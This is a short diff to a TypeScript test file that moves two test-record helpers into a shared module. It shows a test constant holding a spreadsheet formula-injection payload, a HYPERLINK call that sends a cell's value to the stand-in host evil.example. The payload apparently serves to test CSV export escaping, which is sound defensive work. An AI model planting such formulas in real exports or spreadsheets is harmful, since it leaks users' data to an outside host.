@@ -22,6 +22,7 @@ import {
 } from '../../packages/sdk/src/index.ts';
 import { importFile } from '../../src/import/import.ts';
 import { createTestContext, STORES, seedAccount, seedKey, type TestContext } from '../helpers.ts';
+import { named, user } from '../records.ts';
 import { account, gone, incident, minute, ndjson } from '../import/files.ts';
 import { parseCsv } from '../strict-csv.ts';
 
@@ -34,20 +35,6 @@ const SDK_VERSION = (
 ).version;
 
 const INCIDENTS = 7;
-const named = (type: 'department' | 'location', accountId: string, name: string) => ({
-  type,
-  id: randomUUID(),
-  account_id: accountId,
-  name,
-});
-const user = (accountId: string, name: string) => ({
-  type: 'user',
-  id: randomUUID(),
-  account_id: accountId,
-  name,
-  email: `${name.toLowerCase()}-${randomUUID().slice(0, 8)}@example.com`,
-  role: 'manager',
-});
 
 /** Text that spreadsheets would run as a formula, and text that CSV must quote. */
 const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';
